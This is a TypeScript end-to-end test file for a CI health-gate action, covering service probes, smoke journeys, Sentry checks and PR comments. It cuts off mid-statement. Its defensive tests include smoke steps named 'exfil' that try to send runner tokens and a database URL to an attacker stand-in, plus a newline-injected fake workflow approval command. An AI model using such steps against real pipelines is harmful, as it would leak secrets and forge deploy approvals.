// biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${NAME} is the smoke-file placeholder syntax, written literally.
// health-gate end to end: the committed bundle, run as the runner runs it, against local HTTP services
// that are healthy, dead, refusing, slow, flapping, switching versions, broken, hanging; a smoke journey;
// the Sentry issues stand-in; the GitHub stand-in for the PR comment.
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, describe, test } from 'vitest';
import { type ActionResult, leaks, type RunOptions, runAction } from '../../harness/run-action.js';
import { GitHubStandIn } from '../../standins/github.js';
import { SentryIssuesStandIn } from '../../standins/sentry-issues.js';
import { type Handler, StandIn } from '../../standins/server.js';

const SHA = '0123456789abcdef0123456789abcdef01234567';
// A generous timeout so a loaded CI machine does not turn a healthy answer into an error; the
// hanging-service test sets its own short one.
const fast = { interval: '100ms', timeout: '2s', 'bake-time': '0s' };
const started: StandIn[] = [];

/** A service whose /health answers with `handler`; `n` is the 1-based request count. */
async function service(handler: (n: number) => ReturnType<Handler>): Promise<StandIn> {
  let n = 0;
  const s = await new StandIn().route('GET', '/health', () => handler(++n)).start();
  started.push(s);
  return s;
}
afterEach(async () => {
  await Promise.all(started.splice(0).map((s) => s.stop()));
});

const ok = (version = SHA) => ({
  json: { status: 'healthy', version, checks: { database: { status: 'ok' } } },
});

function gate(inputs: RunOptions['inputs'], opts: Omit<RunOptions, 'inputs'> = {}): Promise<ActionResult> {
  return runAction('health-gate', { inputs: { ...fast, ...inputs }, timeoutMs: 60_000, ...opts });
}

function num(result: ActionResult, name: string): number {
  return Number(result.outputs[name]);
}

/** A port nothing listens on (bound, then closed). */
async function closedPort(): Promise<number> {
  const srv = createServer();
  await new Promise<void>((r) => srv.listen(0, '127.0.0.1', r));
  const { port } = srv.address() as { port: number };
  await new Promise<void>((r) => srv.close(() => r()));
  return port;
}

describe('health-gate probes', () => {
  test('healthy service: healthy after success-threshold rounds, every output set, step passes', async () => {
    const s = await service(() => ok());
    const r = await gate({
      url: `${s.url}/health`,
      'expect-json': 'status=healthy\nchecks.database.status=ok',
      'expect-version': SHA,
    });
    assert.equal(r.exitCode, 0, r.log);
    assert.equal(r.outputs.result, 'healthy');
    assert.equal(r.outputs.healthy, 'true');
    assert.equal(num(r, 'probes'), 3);
    assert.equal(num(r, 'passes'), 3);
    assert.equal(num(r, 'failures'), 0);
    assert.equal(num(r, 'errors'), 0);
    for (const p of ['p50-ms', 'p95-ms', 'p99-ms']) assert.match(r.outputs[p] ?? '', /^\d+$/, p);
    assert.ok(num(r, 'p50-ms') <= num(r, 'p95-ms') && num(r, 'p95-ms') <= num(r, 'p99-ms'));
    assert.equal(r.outputs['observed-version'], SHA);
    assert.match(r.outputs.reason ?? '', /^Every check passed 3 times in a row \(success-threshold\)/);
    assert.equal(r.outputs.report?.trimEnd(), r.summary.trimEnd());
    assert.match(r.summary, /^<!-- decisionlog-deploy:health-gate -->\n## ✅ Health gate: healthy/);
    assert.match(r.summary, /```mermaid\nxychart-beta/);
    assert.equal(s.requests.length, 3);
  });

  test('dead service (503), old failure-threshold input: unhealthy after that many rounds, not at the deadline', async () => {
    const s = await service(() => ({
      status: 503,
      json: { status: 'unavailable', error: 'database is down' },
    }));
    const r = await gate({ url: `${s.url}/health`, deadline: '5m', 'failure-threshold': 4 });
    assert.equal(r.exitCode, 1);
    assert.equal(r.outputs.result, 'unhealthy');
    assert.equal(r.outputs.healthy, 'false');
    assert.equal(num(r, 'probes'), 4);
    assert.equal(num(r, 'failures'), 4);
    assert.equal(s.requests.length, 4);
    assert.match(
      r.outputs.reason ?? '',
      /^http:\/\/127\.0\.0\.1:\d+\/health failed 4 of 4 measurements, above failure-limit 3 \(last: answered 503, expected 200\)\.$/,
    );
    assert.equal(r.errors.length, 1);
    assert.match(r.errors[0] ?? '', /^Health gate unhealthy: .* failed 4 of 4 measurements/);
    assert.match(r.summary, /Decided by \*\*failure-limit\*\* on http:\/\/127\.0\.0\.1:\d+\/health\./);
    assert.match(
      r.summary,
      /### First failing response\n\nRound 1: .* answered 503, expected 200 \(HTTP 503\)\./,
    );
    assert.match(r.summary, /database is down/);
  });

  test('refusing connections: errors, unhealthy after consecutive-error-limit + 1 rounds, reported apart from failures', async () => {
    const port = await closedPort();
    const r = await gate({ url: `http://127.0.0.1:${port}/health` });
    assert.equal(r.exitCode, 1);
    assert.equal(r.outputs.result, 'unhealthy');
    assert.equal(num(r, 'probes'), 3);
    assert.equal(num(r, 'errors'), 3);
    assert.equal(num(r, 'failures'), 0);
    assert.equal(r.outputs['p95-ms'], '');
    assert.match(
      r.outputs.reason ?? '',
      /got no answer 3 times in a row, above consecutive-error-limit 2 \(last: gave no answer: connection refused \(ECONNREFUSED\)\)\.$/,
    );
    assert.doesNotMatch(r.log, /^\s+at /m, 'no stack trace');
  });

  test('hanging past the timeout: each probe is an error after `timeout`, unhealthy', async () => {
    const s = await service(() => ({ delayMs: 3000, ...ok() }));
    const r = await gate({ url: `${s.url}/health`, timeout: '300ms' });
    assert.equal(r.outputs.result, 'unhealthy');
    assert.equal(num(r, 'errors'), 3);
    assert.equal(s.requests.length, 3);
    assert.match(r.outputs.reason ?? '', /gave no answer within 300ms \(timeout\)/);
  });

  test('slow service above max-p95-ms: every probe passes but the SLO makes it unhealthy', async () => {
    const s = await service(() => ({ delayMs: 120, ...ok() }));
    const r = await gate({ url: `${s.url}/health`, 'max-p95-ms': 60, timeout: '2s' });
    assert.equal(r.exitCode, 1);
    assert.equal(r.outputs.result, 'unhealthy');
    assert.equal(num(r, 'passes'), 3);
    assert.ok(num(r, 'p95-ms') >= 120, r.outputs['p95-ms']);
    assert.match(
      r.outputs.reason ?? '',
      /^Latency SLO failed: p95 latency is \d+ ms over 3 probes, above max-p95-ms 60 ms\.$/,
    );
  });

  test('flapping service (every other answer a 500): unhealthy at its 5th failure, long before the deadline', async () => {
    const s = await service((n) => (n % 2 === 1 ? ok() : { status: 500, text: 'Internal Server Error' }));
    const r = await gate({ url: `${s.url}/health`, deadline: '5m' });
    assert.equal(r.exitCode, 1);
    assert.equal(r.outputs.result, 'unhealthy');
    assert.equal(num(r, 'probes'), 10);
    assert.equal(num(r, 'failures'), 5);
    assert.match(
      r.outputs.reason ?? '',
      /^http:\/\/127\.0\.0\.1:\d+\/health failed 5 of 10 measurements, above failure-limit 4 \(last: answered 500, expected 200\)\.$/,
    );
    assert.match(r.errors[0] ?? '', /^Health gate unhealthy/);
  });

  test('a release that dies during the bake is unhealthy within a few rounds, not healthy at the streak', async () => {
    const s = await service((n) => (n <= 5 ? ok() : { status: 503, json: { status: 'down' } }));
    const r = await gate({ url: `${s.url}/health`, 'bake-time': '1m', deadline: '5m', 'failure-limit': 4 });
    assert.equal(r.outputs.result, 'unhealthy');
    assert.equal(num(r, 'probes'), 10, '3 to pass the streak, 2 more good, then 5 failures');
    assert.match(r.outputs.reason ?? '', /failed 5 of 10 measurements, above failure-limit 4/);
    assert.match(r.summary, /\| http:\/\/127\.0\.0\.1:\d+\/health \| failed \| 5 \| 5 \| 0 \| 0 \| 0 \|/);
  });

  test('a healthy service passes the whole bake, then is healthy', async () => {
    const s = await service(() => ok());
    const r = await gate({ url: `${s.url}/health`, 'bake-time': '1s' });
    assert.equal(r.outputs.result, 'healthy', r.log);
    assert.ok(num(r, 'probes') >= 10, r.outputs.probes);
    assert.match(r.outputs.reason ?? '', /stayed within its limits for the 1\.0s bake-time/);
  });

  test('old version switching to the new one mid-gate: pending rounds, then healthy on the new version', async () => {
    const s = await service((n) => (n <= 4 ? ok('fedcba9876543210') : ok()));
    const r = await gate({ url: `${s.url}/health`, 'expect-version': SHA, 'expect-json': 'status=healthy' });
    assert.equal(r.exitCode, 0, r.log);
    assert.equal(r.outputs.result, 'healthy');
    assert.equal(num(r, 'probes'), 7);
    assert.equal(num(r, 'passes'), 3);
    assert.equal(num(r, 'failures') + num(r, 'errors'), 0);
    assert.equal(r.outputs['observed-version'], SHA);
    assert.match(r.log, /answered healthy from version fedcba9876543210, waiting for 0123456789abcdef/);
    assert.match(r.summary, /\| successful \| 3 \| 0 \| 0 \| 0 \| 4 \|/);
  });

  test('the old version answering degraded, slow or 503 is pending, not a failure; its latency stays out of p95', async () => {
    const old = { status: 'degraded', version: 'fedcba9876543210' };
    const s = await service((n) => {
      if (n <= 3) return { delayMs: 400, json: old };
      if (n === 4) return { status: 503, json: { ...old, status: 'starting' } };
      return ok();
    });
    const r = await gate({
      url: `${s.url}/health`,
      'expect-version': SHA,
      'expect-json': 'status=healthy',
      'max-p95-ms': 300,
    });
    assert.equal(r.exitCode, 0, r.log);
    assert.equal(r.outputs.result, 'healthy');
    assert.equal(num(r, 'probes'), 7);
    assert.equal(num(r, 'passes'), 3);
    assert.equal(num(r, 'failures') + num(r, 'errors'), 0);
    assert.ok(
      num(r, 'p99-ms') < 300,
      `the 400 ms old-version answers are not in p99: ${r.outputs['p99-ms']}`,
    );
    assert.match(r.log, /answered 200 from version fedcba9876543210, waiting for 0123456789abcdef/);
    assert.match(r.log, /answered 503 from version fedcba9876543210, waiting for 0123456789abcdef/);
    assert.match(r.summary, /\| successful \| 3 \| 0 \| 0 \| 0 \| 4 \|/);
    assert.doesNotMatch(r.summary, /First failing response/);
  });

  test('the old version never leaves: unhealthy at the deadline, saying which version is serving', async () => {
    const s = await service(() => ok('fedcba9876543210'));
    const r = await gate({ url: `${s.url}/health`, 'expect-version': SHA, deadline: '700ms' });
    assert.equal(r.exitCode, 1);
    assert.equal(r.outputs.result, 'unhealthy');
    assert.equal(r.outputs['observed-version'], 'fedcba9876543210');
    assert.match(
      r.outputs.reason ?? '',
      /^Version fedcba9876543210 is still serving: 0123456789abcdef0123456789abcdef01234567 never answered/,
    );
  });

  test('invalid JSON with expect-json: failures that say the body is not JSON', async () => {
    const s = await service(() => ({ text: '<html>OK</html>', headers: { 'content-type': 'text/html' } }));
    const r = await gate({ url: `${s.url}/health`, 'expect-json': 'status=healthy' });
    assert.equal(r.outputs.result, 'unhealthy');
    assert.equal(num(r, 'failures'), 5);
    assert.match(r.outputs.reason ?? '', /answered 200 but the body is not JSON/);
    assert.match(r.summary, /<html>OK<\/html>/);
  });

  test('several URLs: each is its own check, and the failing one decides', async () => {
    const good = await service(() => ok());
    const bad = await service(() => ({ json: { status: 'degraded' } }));
    const r = await gate({ url: `${good.url}/health\n${bad.url}/health`, 'expect-json': 'status=healthy' });
    assert.equal(r.outputs.result, 'unhealthy');
    assert.equal(num(r, 'probes'), 10);
    assert.equal(num(r, 'passes'), 5);
    assert.equal(num(r, 'failures'), 5);
    assert.match(
      r.outputs.reason ?? '',
      new RegExp(
        `^${bad.url}/health failed 5 of 5 measurements, above failure-limit 4 \\(last: answered 200 but has status=degraded, expected healthy\\)`,
      ),
    );
    assert.ok(r.summary.includes(`| ${good.url}/health | successful | 5 | 0 | 0 | 0 | 0 |`), r.summary);
    assert.ok(r.summary.includes(`| ${bad.url}/health | failed | 0 | 5 | 0 | 0 | 0 |`), r.summary);
  });

  test('fail-on-unhealthy false: the step passes with a warning and result says unhealthy', async () => {
    const s = await service(() => ({ status: 503 }));
    const r = await gate({ url: `${s.url}/health`, 'fail-on-unhealthy': false });
    assert.equal(r.exitCode, 0, r.log);
    assert.equal(r.outputs.result, 'unhealthy');
    assert.equal(r.errors.length, 0);
    assert.match(r.warnings[0] ?? '', /fail-on-unhealthy is false/);
  });

  test('bad input fails at once with one sentence and probes nothing', async () => {
    const s = await service(() => ok());
    const r = await gate({ url: `${s.url}/health`, interval: 'soon' });
    assert.equal(r.exitCode, 1);
    assert.deepEqual(r.errors, [
      'Input "interval" "soon" is not a duration: write it like 500ms, 5s, 2m or 1h30m.',
    ]);
    assert.equal(s.requests.length, 0);
    assert.deepEqual(r.outputs, {});
  });

  test('header values are sent but never shown, even when the service echoes them in a failing body', async () => {
    const secret = 'hg-header-secret-9f8e7d';
    const s = await service(() => ({ status: 401, json: { error: 'bad key', got: secret } }));
    const r = await gate({ url: `${s.url}/health`, headers: `X-Api-Key: ${secret}\nX-Env: ci` });
    assert.equal(s.requests[0]?.headers['x-api-key'], secret);
    assert.equal(s.requests[0]?.headers['x-env'], 'ci');
    assert.equal(r.outputs.result, 'unhealthy');
    assert.match(r.summary, /"got":"\*\*\*"/);
    assert.deepEqual(leaks(r, secret), []);
    assert.ok(r.masks.includes(secret));
  });
});

describe('health-gate smoke journey', () => {
  const password = 'smoke-pass-4b3c2a1';
  const journey = `steps:
  - name: login
    method: POST
    path: /api/auth/login
    json: { email: "\${SMOKE_EMAIL}", password: "\${SMOKE_PASSWORD}" }
    expect-json: ["token_type=bearer"]
    capture: { token: access_token }
  - name: projects
    path: /api/projects
    headers: { authorization: "Bearer \${token}" }
    expect-json: ["0.name=DecisionLog"]
    capture: { project: 0.id }
  - name: decisions
    path: /api/projects/\${project}/decisions
    headers: { authorization: "Bearer \${token}" }
    expect-status: [200]
    expect-json: ["items.0.title=Use Postgres"]
`;
  /** A small stand-in for DecisionLog: login → projects → decisions, with a fresh token per login. */
  async function decisionLog(opts: { decisionsStatus?: number } = {}) {
    let logins = 0;
    const tokens = new Set<string>();
    const authed = (h: Record<string, string | string[] | undefined>) =>
      typeof h.authorization === 'string' && tokens.has(h.authorization.replace(/^Bearer /, ''));
    const s = new StandIn()
      .route('GET', '/health', () => ok())
      .route('POST', '/api/auth/login', (req) => {
        const b = req.json as { email?: string; password?: string };
        if (b?.email !== 'smoke@decisionlog.dev' || b.password !== password) {
          return { status: 401, json: { error: 'invalid credentials' } };
        }
        const token = `eyJ.smoke-token-${++logins}-${Math.random().toString(36).slice(2)}`;
        tokens.add(token);
        return { json: { access_token: token, token_type: 'bearer' } };
      })
      .route('GET', '/api/projects', (req) =>
        authed(req.headers)
          ? { json: [{ id: 'p-42', name: 'DecisionLog' }] }
          : { status: 401, json: { error: 'unauthorized' } },
      )
      .route('GET', '/api/projects/:id/decisions', (req, p) => {
        if (!authed(req.headers)) return { status: 401, json: { error: 'unauthorized' } };
        if (opts.decisionsStatus)
          return { status: opts.decisionsStatus, json: { error: 'boom', token: [...tokens][0] } };
        return { json: { items: p.id === 'p-42' ? [{ id: 1, title: 'Use Postgres' }] : [] } };
      });
    await s.start();
    started.push(s);
    return { s, tokens };
  }
  function smokeFile(text: string): string {
    const dir = mkdtempSync(join(tmpdir(), 'hg-smoke-'));
    writeFileSync(join(dir, 'smoke.yml'), text);
    return join(dir, 'smoke.yml');
  }
  const env = { SMOKE_EMAIL: 'smoke@decisionlog.dev', SMOKE_PASSWORD: password };

  test('login → projects → decisions with captures each round; tokens and password never shown', async () => {
    const { s, tokens } = await decisionLog();
    const r = await gate({ url: `${s.url}/health`, 'smoke-file': smokeFile(journey) }, { env });
    assert.equal(r.exitCode, 0, r.log);
    assert.equal(r.outputs.result, 'healthy');
    assert.equal(num(r, 'probes'), 6, 'one URL probe and one journey per round');
    assert.equal(s.calls('POST', '/api/auth/login').length, 3);
    const decisions = s.calls('GET', '/api/projects/p-42/decisions');
    assert.equal(decisions.length, 3, 'the captured project id reached the path');
    assert.ok(
      tokens.has(String(decisions[0]?.headers.authorization).replace('Bearer ', '')),
      'the captured token was sent',
    );
    assert.match(r.summary, /### Smoke journey \(last run\)/);
    assert.match(r.summary, /\| decisions \| pass \| 200 \|/);
    for (const secret of [...tokens, password]) assert.deepEqual(leaks(r, secret), [], secret);
  });

  test('a failing step fails the round and names the step; the body excerpt hides the token', async () => {
    const { s, tokens } = await decisionLog({ decisionsStatus: 500 });
    const r = await gate({ url: `${s.url}/health`, 'smoke-file': smokeFile(journey) }, { env });
    assert.equal(r.outputs.result, 'unhealthy');
    assert.match(
      r.outputs.reason ?? '',
      /^smoke journey failed 5 of 5 measurements, above failure-limit 4 \(last: step "decisions" answered 500, expected 200\)\.$/,
    );
    assert.match(r.summary, /"error":"boom"/);
    for (const secret of tokens) assert.deepEqual(leaks(r, secret), [], secret);
  });

  test('only secrets are masked: plain captures and ${GITHUB_SHA} leave outputs readable, a token sent in a header never shows', async () => {
    let projectCalls = 0;
    const tokens: string[] = [];
    const s = new StandIn()
      .route('GET', '/health', () => ok())
      .route('POST', '/api/auth/login', (req) => {
        const b = req.json as { password?: string };
        if (b?.password !== password) return { status: 401, json: { error: 'invalid credentials' } };
        const t = `eyJ.journey-${tokens.length + 1}-${Math.random().toString(36).slice(2)}`;
        tokens.push(t);
        return { json: { access_token: t, token_type: 'bearer' } };
      })
      .route('GET', '/api/deploys/:sha', (_req, p) =>
        p.sha === SHA
          ? { json: { status: 'healthy', ready: true } }
          : { status: 404, json: { error: 'no such deploy' } },
      )
      // The first round fails and echoes the credentials under keys the report's body scrubber does not know.
      .route('GET', '/api/projects', (req) =>
        ++projectCalls === 1
          ? {
              status: 500,
              json: { error: 'boom', echo: tokens.at(-1), sent: req.headers.authorization, pw: password },
            }
          : { json: [{ id: 'p-42', name: 'DecisionLog' }] },
      );
    await s.start();
    started.push(s);
    const file = smokeFile(`steps:
  - name: login
    method: POST
    path: /api/auth/login
    json: { email: "\${SMOKE_EMAIL}", password: "\${SMOKE_PASSWORD}" }
    capture: { bearer: access_token }
  - name: deploy
    path: /api/deploys/\${GITHUB_SHA}
    expect-json: ["status=healthy"]
    capture: { ok: status, ready: ready }
  - name: projects
    path: /api/projects
    headers: { authorization: "Bearer \${bearer}" }
`);
    const r = await gate(
      {
        url: `${s.url}/health`,
        'smoke-file': file,
        'expect-version': SHA,
        'smoke-variables': 'SMOKE_*\nGITHUB_SHA',
      },
      { env },
    );
    assert.equal(r.exitCode, 0, r.log);
    assert.equal(r.outputs.result, 'healthy');
    assert.equal(r.outputs.healthy, 'true');
    assert.equal(r.outputs['observed-version'], SHA);
    assert.equal(
      s.calls('GET', `/api/deploys/${SHA}`).length,
      4,
      '${GITHUB_SHA} reached the path each round',
    );
    assert.equal(tokens.length, 4);
    assert.match(
      r.summary,
      /### First failing response\n\nRound 1: smoke journey step "projects" answered 500/,
    );
    assert.match(r.summary, /"echo":"\*\*\*"/, 'the echoed token is in the excerpt, masked');
    for (const secret of [...tokens, password]) assert.deepEqual(leaks(r, secret), [], secret);
    for (const plain of ['healthy', 'true', SHA, env.SMOKE_EMAIL]) {
      assert.ok(!r.masks.includes(plain), `${plain} must not be registered as a secret`);
    }
  });

  test('an unknown ${NAME} is a config error naming the step, before any request', async () => {
    const { s } = await decisionLog();
    const r = await gate(
      { url: `${s.url}/health`, 'smoke-file': smokeFile(journey) },
      { env: { SMOKE_EMAIL: 'x@y.z' } },
    );
    assert.equal(r.exitCode, 1);
    assert.match(
      r.errors[0] ?? '',
      /step "login" uses \$\{SMOKE_PASSWORD\}, which no earlier step captures and the environment does not set/,
    );
    assert.equal(s.requests.length, 0);
  });
});

describe('health-gate: what a smoke file or the probed service cannot do (issue 21)', () => {
  function smokeFile(text: string): string {
    const dir = mkdtempSync(join(tmpdir(), 'hg-reach-'));
    writeFileSync(join(dir, 'smoke.yml'), text);
    return join(dir, 'smoke.yml');
  }
  const runnerSecrets = {
    SMOKE_EMAIL: 'smoke@decisionlog.dev',
    ACTIONS_RUNTIME_TOKEN: 'runtime-token-7f6e5d4c3b2a',
    ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'oidc-request-token-1a2b3c4d',
    DATABASE_URL: 'postgres://app:db-password-91@db.internal/app',
  };

  test('21.2: ${NAME} of the runner tokens, other inputs or other secrets is a config error; nothing is sent', async () => {
    const s = await service(() => ok());
    for (const name of [
      'ACTIONS_RUNTIME_TOKEN',
      'ACTIONS_ID_TOKEN_REQUEST_TOKEN',
      'INPUT_HEADERS',
      'DATABASE_URL',
    ]) {
      const file = smokeFile(
        `steps:\n  - name: exfil\n    method: POST\n    path: /collect\n    json: { v: "\${${name}}" }\n`,
      );
      const r = await gate(
        { url: `${s.url}/health`, 'smoke-file': file, headers: 'Authorization: Bearer prod-header-token-55' },
        { env: runnerSecrets },
      );
      assert.equal(r.exitCode, 1, name);
      assert.match(
        r.errors[0] ?? '',
        new RegExp(
          `uses \\$\\{${name}\\}, which no earlier step captures and smoke-variables does not allow`,
        ),
      );
    }
    assert.equal(s.requests.length, 0);
  });

  test('21.2: a step may not call another origin; an allowed one never gets the headers input', async () => {
    const s = await service(() => ok());
    const attacker = await new StandIn().route('POST', '/collect', () => ({ json: { ok: true } })).start();
    started.push(attacker);
    const file = smokeFile(
      `steps:\n  - name: exfil\n    method: POST\n    url: ${attacker.url}/collect\n    json: { email: "\${SMOKE_EMAIL}" }\n`,
    );
    const headers = 'X-Api-Key: prod-header-token-55';
    const refused = await gate(
      { url: `${s.url}/health`, 'smoke-file': file, headers },
      { env: runnerSecrets },
    );
    assert.equal(refused.exitCode, 1);
    assert.match(
      refused.errors[0] ?? '',
      /step "exfil" calls http:\/\/127\.0\.0\.1:\d+, which is neither the gate URL's origin/,
    );
    assert.equal(attacker.requests.length, 0);

    const allowed = await gate(
      { url: `${s.url}/health`, 'smoke-file': file, headers, 'smoke-origins': attacker.url },
      { env: runnerSecrets },
    );
    assert.equal(allowed.outputs.result, 'healthy', allowed.log);
    assert.ok(attacker.requests.length >= 3);
    for (const req of attacker.requests) assert.equal(req.headers['x-api-key'], undefined);
    assert.equal(s.requests[0]?.headers['x-api-key'], 'prod-header-token-55', 'the gate URL still gets it');
  });

  test('21.2: a captured value that steers a step to another origin: the step fails and nothing is sent', async () => {
    const attacker = await new StandIn().route('GET', '/collect', () => ({ json: {} })).start();
    started.push(attacker);
    const s = await new StandIn()
      .route('GET', '/health', () => ok())
      .route('GET', '/next', () => ({ json: { next: new URL(attacker.url).host } }))
      .start();
    started.push(s);
    const file = smokeFile(
      'steps:\n  - name: where\n    path: /next\n    capture: { next: next }\n  - name: follow\n    url: "http://${next}/collect"\n',
    );
    const r = await gate({
      url: `${s.url}/health`,
      'smoke-file': file,
      headers: 'X-Api-Key: prod-header-token-55',
    });
    assert.equal(r.outputs.result, 'unhealthy', r.log);
    assert.match(
      r.outputs.reason ?? '',
      /step "follow" would call http:\/\/127\.0\.0\.1:\d+, which is neither the gate URL's origin nor in smoke-origins; not sent/,
    );
    assert.equal(attacker.requests.length, 0);
  });

  test('21.7: a version or JSON value with line breaks cannot forge a workflow command', async () => {
    const forged = 'v2\n::error title=Deploy approved::all good\n::warning::x';
    const s = await service(() => ({ json: { status: forged, version: forged } }));
    const r = await gate({
      url: `${s.url}/health`,
      'expect-json': 'status=healthy',
      'expect-version': SHA,
      deadline: '1s',
    });
    assert.equal(r.outputs.result, 'unhealthy');
    assert.doesNotMatch(r.log, /^::error title=Deploy approved/m);
    assert.doesNotMatch(r.log, /^::warning::x/m);
    assert.equal(r.errors.filter((e) => e.includes('all good') && !e.startsWith('Health gate')).length, 0);
    assert.doesNotMatch(r.outputs['observed-version'] ?? '', /\n/);
  });

  test('21.9: a credential in the URL query under any name never appears in logs, outputs or the summary', async () => {
    const credential = 'q-cred-0a9b8c7d6e5f';
    const s = await service(() => ({ status: 503 }));
    const r = await gate({ url: `${s.url}/health?auth=${credential}&region=eu`, 'failure-limit': 0 });
    assert.equal(r.outputs.result, 'unhealthy');
    assert.equal(s.requests[0]?.query.get('auth'), credential, 'the probe itself carries it');
    assert.deepEqual(leaks(r, credential), []);
    assert.match(r.outputs.reason ?? '', new RegExp(`^${s.url}/health failed 1 of 1 measurement`));
  });
});

describe('health-gate guarding a rollback', () => {
  const GOOD = 'aaaaaaa1111111111111111111111111111111aa';
  test('expect-version set to the restored commit: the bad release answering 200 is never called healthy', async () => {
    const s = await service(() => ok(SHA));
    const r = await gate({
      url: `${s.url}/health`,
      'expect-json': 'status=healthy',
      'expect-version': GOOD,
      deadline: '800ms',
    });
    assert.equal(r.outputs.result, 'unhealthy');
    assert.equal(num(r, 'passes'), 0);
    assert.match(
      r.outputs.reason ?? '',
      new RegExp(`^Version ${SHA} is still serving: ${GOOD} never answered`),
    );
  });

  test('traffic back on the restored commit: healthy', async () => {
    const s = await service((n) => (n <= 2 ? ok(SHA) : ok(GOOD)));
    const r = await gate({ url: `${s.url}/health`, 'expect-json': 'status=healthy', 'expect-version': GOOD });
    assert.equal(r.outputs.result, 'healthy', r.log);
    assert.equal(r.outputs['observed-version'], GOOD);
  });
});

describe('health-gate Sentry gate', () => {
  const sentry = new SentryIssuesStandIn();
  const up = sentry.start();
  afterAll(() => sentry.stop());
  const inputs = async (extra: Record<string, string> = {}) => {
    await up;
    const s = await service(() => ok());
    return {
      url: `${s.url}/health`,
      'sentry-auth-token': sentry.token,
      'sentry-org': 'acme',
      'sentry-project': 'decisionlog',
      'sentry-url': sentry.url,
      'expect-version': SHA,
      ...extra,
    };
  };

  test('no new issues in the release: healthy; the query asks for firstRelease with Bearer auth', async () => {
    sentry.addIssues('older-release', 3);
    const r = await gate(await inputs());
    assert.equal(r.exitCode, 0, r.log);
    assert.equal(r.outputs.result, 'healthy');
    const call = sentry.calls('GET', '/api/0/projects/acme/decisionlog/issues/').at(-1);
    assert.equal(call?.query.get('query'), `firstRelease:"${SHA}"`);
    assert.equal(call?.headers.authorization, `Bearer ${sentry.token}`);
    assert.match(r.summary, /### Sentry\n\n0 new issues first seen in release `0123456789abcdef/);
    assert.deepEqual(leaks(r, sentry.token), []);
  });

  test('2 new issues with max-new-issues 1: unhealthy, the issues listed in the report', async () => {
    sentry.addIssues('rel-2', 2);
    const r = await gate(await inputs({ 'sentry-release': 'rel-2', 'max-new-issues': '1' }));
    assert.equal(r.exitCode, 1);
    assert.equal(r.outputs.result, 'unhealthy');
    assert.equal(num(r, 'passes'), 3, 'the probes themselves passed');
    assert.equal(
      r.outputs.reason,
      'The probes passed but Sentry shows 2 new issues first seen in release rel-2, above max-new-issues 1.',
    );
    assert.match(r.summary, /\[DECISIONLOG-\d+\]\(https:\/\/acme\.sentry\.io\/issues\/\d+\/\)/);
  });

  test('several projects: every project is asked and new issues are summed against one budget', async () => {
    sentry.projects.get('acme')?.add('decisionlog-web');
    sentry.addIssues('rel-3', 1); // the stand-in lists the release's issues under each project
    const r = await gate(
      await inputs({
        'sentry-project': 'decisionlog decisionlog-web',
        'sentry-release': 'rel-3',
        'max-new-issues': '1',
      }),
    );
    assert.equal(sentry.calls('GET', '/api/0/projects/acme/decisionlog/issues/').length > 0, true);
    assert.equal(sentry.calls('GET', '/api/0/projects/acme/decisionlog-web/issues/').length, 1);
    assert.equal(r.outputs.result, 'unhealthy');
    assert.match(
      r.outputs.reason ?? '',
      /Sentry shows 2 new issues first seen in release rel-3, above max-new-issues 1/,
    );
    assert.match(r.summary, /acme\/decisionlog, acme\/decisionlog-web/);
  });

  test('sentry-url given as the API URL (…/api/0/) reaches the same endpoint', async () => {
    const r = await gate(await inputs({ 'sentry-url': `${sentry.url}/api/0/` }));
    assert.equal(r.exitCode, 0, r.log);
    assert.equal(r.outputs.result, 'healthy');
    assert.match(r.summary, /### Sentry\n\n0 new issues first seen in release/);
  });

  test('Sentry cannot be queried with fail-on-unhealthy false: inconclusive, the step passes with a warning', async () => {
    const bad = 'sntrys_wrong_token_fedcba987';
    const r = await gate(await inputs({ 'sentry-auth-token': bad, 'fail-on-unhealthy': 'false' }));
    assert.equal(r.exitCode, 0, r.log);
    assert.equal(r.outputs.result, 'inconclusive');
    assert.equal(r.outputs.healthy, 'false');
    assert.deepEqual(r.errors, []);
    assert.deepEqual(r.warnings, [
      'Health gate inconclusive (fail-on-unhealthy is false, so the step passes): Sentry could not be queried 3 times in a row, above consecutive-error-limit 2: Sentry rejected sentry-auth-token (401: Invalid token): use a valid auth token with the event:read and project:read scopes.',
    ]);
    assert.deepEqual(leaks(r, bad), []);
  });

  test('a rejected token (401): one clear sentence, result inconclusive, token not shown', async () => {
    const bad = 'sntrys_wrong_token_abcdef123';
    const r = await gate(await inputs({ 'sentry-auth-token': bad }));
    assert.equal(r.exitCode, 1);
    assert.equal(r.outputs.result, 'inconclusive');
    assert.deepEqual(r.errors, [
      'Health gate inconclusive: Sentry could not be queried 3 times in a row, above consecutive-error-limit 2: Sentry rejected sentry-auth-token (401: Invalid token): use a valid auth token with the event:read and project:read scopes.',
    ]);
    assert.equal(num(r, 'probes'), 5, 'the probes go on while Sentry is asked again');
    assert.deepEqual(leaks(r, bad), []);
  });
});

describe('health-gate PR comment', () => {
  const github = new GitHubStandIn();
  const up = github.start();
  afterAll(() => github.stop());

  test('created once on the pull request, then updated in place on the next run', async () => {
    await up;
    const healthySvc = await service(() => ok());
    const opts = {
      eventName: 'pull_request',
      event: { pull_request: { number: 17 } },
      env: { GITHUB_API_URL: github.url },
    };
    const first = await gate({ url: `${healthySvc.url}/health`, 'github-token': github.token }, opts);
    assert.equal(first.exitCode, 0, first.log);
    const comments = () => github.comments.get(17) ?? [];
    assert.equal(comments().length, 1);
    const id = comments()[0]?.id;
    assert.match(
      comments()[0]?.body ?? '',
      /^<!-- decisionlog-deploy:health-gate -->\n## ✅ Health gate: healthy/,
    );

    const deadSvc = await service(() => ({ status: 503 }));
    const second = await gate({ url: `${deadSvc.url}/health`, 'github-token': github.token }, opts);
    assert.equal(second.outputs.result, 'unhealthy');
    assert.equal(comments().length, 1, 'still one comment');
    assert.equal(comments()[0]?.id, id, 'the same comment, edited');
    assert.match(comments()[0]?.body ?? '', /## ❌ Health gate: unhealthy/);
    assert.equal(github.calls('PATCH', `/repos/acme/decisionlog/issues/comments/${id}`).length, 1);
    for (const r of [first, second]) assert.deepEqual(leaks(r, github.token), []);
  });

  test('comment-header puts another verdict (the migration plan) above the gate report in the same comment', async () => {
    await up;
    const healthySvc = await service(() => ok());
    const header =
